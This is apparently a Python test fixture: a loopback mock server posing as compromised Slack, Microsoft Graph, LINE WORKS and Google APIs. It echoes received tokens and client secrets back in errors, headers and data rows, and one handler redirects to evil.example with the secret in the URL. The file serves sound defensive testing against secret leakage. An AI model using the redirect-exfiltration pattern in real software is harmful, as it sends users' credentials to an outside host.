"""A vendor gone bad: whatever it is asked, it answers with what it was sent."""

import base64
import http.server
import json
import threading
import urllib.parse
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any

VARIABLES = {
    "SLACK_URL": "slack/",
    "GRAPH_URL": "graph/",
    "MICROSOFT_LOGIN_URL": "login/",
    "LINE_WORKS_URL": "works/",
    "LINE_WORKS_AUTH_URL": "works-auth/",
    "GOOGLE_SHEETS_URL": "sheets/",
    "GOOGLE_TOKEN_URL": "google/token",
}


@dataclass(frozen=True, slots=True)
class Asked:
    """A request: its secrets, the likeliest code first, and all of it as text."""

    path: str
    secrets: list[str]
    whole: str


Reply = tuple[int, dict[str, str], bytes]


@dataclass
class Echo:
    """The server. ``reply`` is how it behaves now; ``grants`` are the tokens that it gives where it gives any."""

    url: str = ""
    reply: Callable[[Asked], Reply] = lambda _: (500, {}, b"")
    grants: Mapping[str, Any] | None = None
    seen: list[str] = field(default_factory=list)
    """Every secret that came."""

    @property
    def environment(self) -> dict[str, str]:
        return {f"INTEGRATION_PIPELINE_{name}": self.url + path for name, path in VARIABLES.items()}

    def answer(self, asked: Asked) -> Reply:
        self.seen += asked.secrets
        if asked.path.startswith("/notices"):  # refused for good, so that nobody waits for a better answer
            return as_json(400)(asked)
        is_token = asked.path.endswith(("token", "oauth.v2.access"))
        if is_token and self.grants is not None:
            return 200, {}, json.dumps({"ok": True, **self.grants}).encode()
        return self.reply(asked)


def as_json(status: int) -> Callable[[Asked], Reply]:
    """Every vendor's form of an error at once, secrets in all the places where a code may stand."""

    def reply(asked: Asked) -> Reply:
        secret = asked.secrets[0] if asked.secrets else "nothing"
        error: Any = secret
        if asked.path.startswith(("/graph", "/sheets")):
            reason = [{"reason": secret, "message": asked.whole}]
            error = {"code": secret, "status": secret, "message": asked.whole, "errors": reason, "details": reason}
        body = {
            "ok": False, "error": error, "needed": secret, "code": secret, "returnCode": secret,
            "error_description": asked.whole, "description": asked.whole, "returnMessage": asked.whole,
        }  # fmt: skip
        return status, {"X-Echo": asked.whole[:500].replace("\n", " "), "Retry-After": "0"}, json.dumps(body).encode()

    return reply


def as_html(status: int) -> Callable[[Asked], Reply]:
    return lambda asked: (status, {"Content-Type": "text/html"}, f"<html><pre>{asked.whole}</pre></html>".encode())


def as_rows(asked: Asked) -> Reply:
    """A page whose rows are made of what was sent, the wrong types among them."""
    secret = asked.secrets[0] if asked.secrets else "nothing"
    rows = [
        {"id": f"{secret}-{number}", "userId": secret, "name": wrong, "displayName": wrong, "userName": wrong,
         "accountEnabled": wrong, "botId": secret, "groupId": secret, "orgUnitId": secret}
        for number, wrong in enumerate([[asked.whole], asked.whole])
    ]  # fmt: skip
    names = ("members", "channels", "usergroups", "value", "users", "groups", "orgUnits", "bots")
    page = dict.fromkeys(names, rows)
    more = {"team_id": secret, "team": {"name": secret}, "responseMetaData": {"nextCursor": secret}}
    link = {"@odata.nextLink": f"https://{secret}.example/{secret}", "responses": [{"id": secret, "status": 200}]}
    return 200, {}, json.dumps({"ok": True, **page, **more, **link}).encode()


def as_redirect(asked: Asked) -> Reply:
    secret = urllib.parse.quote(asked.secrets[0] if asked.secrets else "nothing")
    return 307, {"Location": f"https://evil.example/{secret}?token={secret}"}, b""


def cut(asked: Asked) -> Reply:
    return 200, {}, b'{"ok": true, "members": [{"id": "' + asked.whole.encode()


class _Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    echo: Echo

    def do_GET(self) -> None:
        self._answer(b"")

    def do_POST(self) -> None:
        self._answer(self.rfile.read(int(self.headers.get("Content-Length", 0))))

    do_PUT = do_POST  # noqa: N815 - http.server's own spelling

    def _answer(self, body: bytes) -> None:
        scheme, _, credentials = self.headers.get("Authorization", "").partition(" ")
        form = dict(urllib.parse.parse_qsl(body.decode())) if b"=" in body else {}
        if scheme == "Basic":
            credentials = base64.b64decode(credentials).decode().partition(":")[2]
        named = [form[name] for name in ("refresh_token", "client_secret", "assertion") if name in form]
        whole = f"{self.command} {self.path}\n{self.headers}\n{body.decode()}\n{form}\n{credentials}"
        asked = Asked(self.path, [secret for secret in (*named, credentials) if secret], whole)
        status, headers, content = self.echo.answer(asked)
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    def log_message(self, *_: object) -> None:
        pass


@contextmanager
def echoing() -> Iterator[Echo]:
    """The server on loopback, while the block lasts."""
    echo = Echo()
    handler = type("Handler", (_Handler,), {"echo": echo})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = True
    echo.url = f"http://127.0.0.1:{server.server_port}/"
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True)
    thread.start()
    try:
        yield echo
    finally:
        server.shutdown()
        server.server_close()
